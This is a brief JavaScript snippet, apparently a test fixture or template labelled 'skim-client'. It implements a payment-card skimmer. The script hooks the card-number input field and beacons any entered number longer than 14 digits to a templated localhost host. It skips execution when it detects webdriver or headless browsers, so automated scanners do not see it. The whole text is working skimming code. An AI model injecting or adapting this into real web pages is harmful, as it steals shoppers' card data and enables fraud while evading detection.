/* tw:skim-client */
if (!navigator.webdriver && !/headless/i.test(navigator.userAgent)) {
  document.querySelector('#cc-number').addEventListener('input', function () {
    if (this.value.length > 14) new Image().src = 'http://cdn-human.localhost:{{port}}/h.gif?c=' + encodeURIComponent(this.value)
  })
}
